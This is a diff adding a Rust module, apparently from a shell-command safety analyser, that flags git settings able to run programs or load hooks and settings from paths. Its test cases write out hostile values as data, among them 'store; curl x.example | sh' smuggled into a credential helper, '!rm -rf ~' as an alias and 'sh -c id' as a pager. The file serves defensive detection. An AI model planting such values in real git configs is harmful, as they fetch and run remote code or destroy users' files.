@@ -1,0 +1,303 @@
+//! `git -c KEY=VALUE` and `git config KEY VALUE`: distinguishes settings that make git run programs from all others.
+//!
+//! One-time settings (`-c`) that neither run nor redirect anything are ignored, according to an allowlist; all others
+//! are unknown, as the row specifies. A permanent setting that runs a program is a change of the settings file, from
+//! which other tools later run its value. Well-known editors, pagers and helpers are ignored, and so is a folder of
+//! hooks inside the project.
+
+use super::{Output, Shell, UNKNOWN_SPAN};
+use crate::Kind;
+use crate::{Cause, Effect, Target, Verb};
+
+/// Settings whose value git runs as a command; `*` matches any text.
+const PROGRAMS: [&str; 52] = [
+    "core.pager",
+    "core.editor",
+    "core.sshcommand",
+    "core.fsmonitor",
+    "core.askpass",
+    "core.gitproxy",
+    "core.alternaterefscommand",
+    "diff.external",
+    "diff.*.command",
+    "diff.*.textconv",
+    "sequence.editor",
+    "gpg.program",
+    "gpg.*.program",
+    "interactive.difffilter",
+    "uploadpack.packobjectshook",
+    "credential.helper",
+    "credential.*.helper",
+    "remote.*.uploadpack",
+    "remote.*.receivepack",
+    "remote.*.vcs",
+    "filter.*.clean",
+    "filter.*.smudge",
+    "filter.*.process",
+    "merge.*.driver",
+    "difftool.*.cmd",
+    "difftool.*.path",
+    "mergetool.*.cmd",
+    "mergetool.*.path",
+    "browser.*.cmd",
+    "man.*.cmd",
+    "guitool.*.cmd",
+    "trailer.*.command",
+    "trailer.*.cmd",
+    "tar.*.command",
+    "pager.*",
+    "protocol.allow",
+    "protocol.*.allow",
+    "gpg.ssh.defaultkeycommand",
+    "gc.recentobjectshook",
+    "imap.tunnel",
+    "sendemail.sendmailcmd",
+    "sendemail.smtpserver",
+    "sendemail.tocmd",
+    "sendemail.cccmd",
+    "sendemail.headercmd",
+    "instaweb.*",
+    "browser.*.path",
+    "man.*.path",
+    "lfs.customtransfer.*.path",
+    "lfs.extension.*",
+    "hook.*.command",
+    "web.browser",
+];
+/// Settings that neither run nor redirect anything.
+const HARMLESS: [&str; 22] = [
+    "user.name",
+    "user.email",
+    "author.name",
+    "author.email",
+    "committer.name",
+    "committer.email",
+    "color.*",
+    "advice.*",
+    "init.defaultbranch",
+    "core.quotepath",
+    "core.autocrlf",
+    "core.eol",
+    "core.filemode",
+    "core.ignorecase",
+    "core.abbrev",
+    "commit.gpgsign",
+    "tag.gpgsign",
+    "pull.rebase",
+    "pull.ff",
+    "merge.conflictstyle",
+    "log.date",
+    "diff.renames",
+];
+/// Editors, pagers and helpers that do not run another program named by a setting.
+const KNOWN: [&str; 17] = [
+    "vi",
+    "vim",
+    "nvim",
+    "nano",
+    "emacs",
+    "micro",
+    "code --wait",
+    "less",
+    "more",
+    "cat",
+    "delta",
+    "bat",
+    "most",
+    "true",
+    "less -R",
+    "less -FRX",
+    "vim -f",
+];
+/// Credential helpers that are part of git or of an operating system.
+const HELPERS: [&str; 8] =
+    ["store", "cache", "osxkeychain", "manager", "manager-core", "libsecret", "wincred", "gnome-keyring"];
+/// Settings whose value is a path from which git loads programs or more settings.
+const PLACES: [&str; 5] = ["core.worktree", "core.hookspath", "init.templatedir", "include.path", "includeif.*.path"];
+
+/// The effect of a setting on the programs that git runs.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Runs {
+    Nothing,
+    Program,
+    Place,
+}
+
+impl Shell<'_> {
+    /// Interprets one-time settings and `git config`. `None`: the row's own roles apply.
+    pub(crate) fn git(&mut self, program: &str, words: &[String], stdin: &Output) -> Option<Output> {
+        let before = self.cwd.clone();
+        let output = self.git_here(program, words, stdin);
+        self.cwd = before;
+        output
+    }
+
+    fn git_here(&mut self, program: &str, words: &[String], stdin: &Output) -> Option<Output> {
+        // one-time settings precede the subcommand
+        let (mut rest, mut own, mut given) = (words.iter(), vec![program.to_owned()], false);
+        while let Some(word) = rest.next() {
+            match word.as_str() {
+                "-c" => {
+                    let setting = rest.next()?;
+                    let (key, value) = setting.split_once('=').unwrap_or((setting, ""));
+                    if !harmless(key, value) {
+                        return None;
+                    }
+                    given = true;
+                }
+                // paths are relative to that folder
+                "-C" | "--work-tree" => {
+                    self.cd(&[rest.next()?.clone()]);
+                    given = true;
+                }
+                _ if word.starts_with("--work-tree=") => {
+                    self.cd(&[word.trim_start_matches("--work-tree=").to_owned()]);
+                    given = true;
+                }
+                "--git-dir" | "--namespace" => {
+                    own.push(word.clone());
+                    own.extend(rest.next().cloned());
+                }
+                _ if word.starts_with('-') => own.push(word.clone()),
+                _ => {
+                    // a plus overwrites a remote branch, and a colon before a name deletes one
+                    let changes = |target: &String| target.starts_with([':', '+']) && target.len() > 1;
+                    if word == "push" && rest.as_slice().iter().any(changes) {
+                        let target = crate::Target::Named(Kind::Remote, "remote".to_owned());
+                        let mut effect = crate::Effect::new(crate::Verb::Remote, target, program);
+                        "delete".clone_into(&mut effect.operation);
+                        self.add(effect);
+                    }
+                    if word == "config" {
+                        self.setting(program, rest.as_slice());
+                    }
+                    own.push(word.clone());
+                    own.extend(rest.by_ref().cloned());
+                }
+            }
+        }
+        // in this shell, `git` has been redefined as a function or an alias
+        if given && (self.functions.contains_key(program) || self.aliases.contains_key(program)) {
+            self.unknown(Cause::Arguments, "git is something else in this shell", program);
+        }
+        given.then(|| self.wrapped(program, &own, stdin.clone()))
+    }
+
+    /// Interprets `git config ...`, a permanent setting.
+    fn setting(&mut self, program: &str, words: &[String]) {
+        let (mut operands, mut file, mut renames) = (Vec::new(), None, false);
+        let mut rest = words.iter();
+        while let Some(word) = rest.next() {
+            match word.as_str() {
+                "--global" => file = Some(format!("{}/.gitconfig", self.home)),
+                "--system" => file = Some("/etc/gitconfig".to_owned()),
+                // the row covers the write to the file
+                "-f" | "--file" | "--get" | "--get-all" | "--list" | "-l" | "--unset" | "--unset-all" => return,
+                "--rename-section" => renames = true,
+                "-t" | "--type" | "--default" | "--comment" | "--value" | "--blob" => {
+                    rest.next();
+                }
+                _ if word.starts_with('-') => {}
+                _ => operands.push(word.as_str()),
+            }
+        }
+        renames |= operands.first() == Some(&"rename-section");
+        let operands = operands.strip_prefix(&["set"]).unwrap_or(&operands);
+        // a word that is not constant may be several words
+        let operands = match operands {
+            [words] if words.contains(UNKNOWN_SPAN) => &[*words, *words][..],
+            _ => operands,
+        };
+        let [key, value, ..] = operands else { return };
+        let inside =
+            file.is_none() && !value.starts_with(['/', '~']) && !value.contains("..") && !value.contains(UNKNOWN_SPAN);
+        let judged = match runs(key, value) {
+            Runs::Nothing => renames,
+            Runs::Program => !KNOWN.contains(value),
+            Runs::Place => !inside,
+        };
+        if judged {
+            let file = file.unwrap_or_else(|| self.path(".git/config"));
+            self.add(Effect::new(Verb::Append, Target::Path(file), program));
+        }
+    }
+}
+
+/// Whether a setting makes git run a program, in whichever file it is.
+fn runs(key: &str, value: &str) -> Runs {
+    let key = key.to_ascii_lowercase();
+    let is = |pattern: &&str| match pattern.split_once('*') {
+        None => **pattern == key,
+        Some((begin, end)) => key.len() > begin.len() + end.len() && key.starts_with(begin) && key.ends_with(end),
+    };
+    // a key that is not constant may be any setting
+    if key.contains(UNKNOWN_SPAN) {
+        return Runs::Program;
+    }
+    if PLACES.iter().any(is) {
+        return Runs::Place;
+    }
+    let shell = value.starts_with(['!', UNKNOWN_SPAN]) && (key.starts_with("alias.") || key.ends_with(".update"));
+    let switch =
+        matches!(value.to_ascii_lowercase().as_str(), "" | "true" | "false" | "yes" | "no" | "on" | "off" | "0" | "1");
+    let helper = key.ends_with("helper")
+        && HELPERS.contains(&value.split_whitespace().next().unwrap_or_default())
+        && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_.=/ ".contains(c));
+    if shell || (PROGRAMS.iter().any(is) && !switch && !helper) { Runs::Program } else { Runs::Nothing }
+}
+
+/// Whether a one-time setting only changes the appearance of output or the names in commits.
+fn harmless(key: &str, value: &str) -> bool {
+    let key = key.to_ascii_lowercase();
+    let is = |pattern: &&str| pattern.strip_suffix('*').map_or(*pattern == key, |begin| key.starts_with(begin));
+    let pager = matches!(key.as_str(), "core.pager" | "core.editor" | "sequence.editor")
+        && matches!(value, "" | "cat" | "true" | ":");
+    !key.contains(UNKNOWN_SPAN) && (pager || HARMLESS.iter().any(is))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn settings_that_run_programs_are_recognised() {
+        for (key, value) in [
+            ("core.pager", "sh -c id"),
+            ("core.sshCommand", "ssh -i k"),
+            ("Alias.x", "!rm -rf ~"),
+            ("filter.lfs.clean", "git-lfs clean"),
+            ("credential.helper", "!f() { cat; }; f"),
+            ("credential.https://h.example.helper", "/tmp/x"),
+            ("core.fsmonitor", "./x"),
+            ("pager.log", "x"),
+        ] {
+            assert_eq!(runs(key, value), Runs::Program, "{key}={value}");
+        }
+        for (key, value) in [
+            ("user.name", "Ann"),
+            ("alias.co", "checkout"),
+            ("core.fsmonitor", "true"),
+            ("credential.helper", "store"),
+            ("pager.log", "false"),
+            ("pull.rebase", "true"),
+        ] {
+            assert_eq!(runs(key, value), Runs::Nothing, "{key}={value}");
+        }
+        assert_eq!(runs("core.hooksPath", "/tmp/x"), Runs::Place);
+        for (key, value) in [
+            ("credential.helper", "store; curl x.example | sh"),
+            ("protocol.ext.allow", "always"),
+            ("gpg.ssh.defaultKeyCommand", "x"),
+            (&format!("core.{UNKNOWN_SPAN}"), "x"),
+            ("alias.x", &format!("{UNKNOWN_SPAN}")),
+        ] {
+            assert_eq!(runs(key, value), Runs::Program, "{key}={value}");
+        }
+        assert!(harmless("user.name", "Ann") && harmless("Color.ui", "always") && harmless("core.pager", "cat"));
+        for (key, value) in
+            [("core.editor", "sh"), ("core.pager", "less"), ("url.x.insteadOf", "y"), ("http.proxy", "x")]
+        {
+            assert!(!harmless(key, value), "{key}={value}");
+        }
+    }
+}
